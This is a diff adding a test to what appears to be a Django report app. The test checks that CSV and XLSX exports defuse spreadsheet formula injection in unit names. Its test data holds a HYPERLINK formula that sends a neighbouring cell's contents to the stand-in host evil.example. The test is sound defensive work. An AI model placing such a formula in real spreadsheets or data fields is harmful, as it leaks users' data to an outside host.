@@ -51,3 +51,30 @@ def test_unit_page_tables_export_too(city, scored, login):
         assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig")))) == tables[key]
     assert client.get(f"{url}&table=secrets&export=csv").status_code == 404
     assert client.get(f"{url}&export=pdf").status_code == 400
+
+
+def test_no_export_carries_a_formula(city, scored, login):
+    """A unit named like a formula: the CSV cell starts with ', the XLSX cell is a string;
+    the figures beside it are unchanged."""
+    from governance.assessment.models import MonthlyScore
+    from grids.models import Community
+
+    evil = '=HYPERLINK("http://evil.example/x?"&A2,"点击查看")'
+    Community.objects.filter(pk=city.comm_a.pk).update(name=evil)
+    MonthlyScore.objects.filter(unit_code=city.comm_a.code).update(unit_name=evil)  # as the scoring stores it
+    client = login(city.users.supervisor)
+    url = "/reports/?period=2026-10&level=community&sort=-composite"
+    page = page_tables(client.get(url).content.decode())["units-community"]
+    raw = _download(client.get(url + "&export=csv"))
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    name_column = page[0].index("单位")
+    [evil_row] = [r for r in rows if evil in r[name_column]]
+    assert evil_row[name_column] == "'" + evil
+    [page_row] = [r for r in page if r[name_column] == evil]
+    assert [c for i, c in enumerate(evil_row) if i != name_column] == [
+        c for i, c in enumerate(page_row) if i != name_column]
+    assert "91.33" in evil_row  # the composite of 甲一社区, as the page prints it
+
+    sheet = load_workbook(io.BytesIO(_download(client.get(url + "&export=xlsx")))).active
+    [cell] = [c for row in sheet.iter_rows() for c in row if c.value == evil]
+    assert cell.data_type == "s"
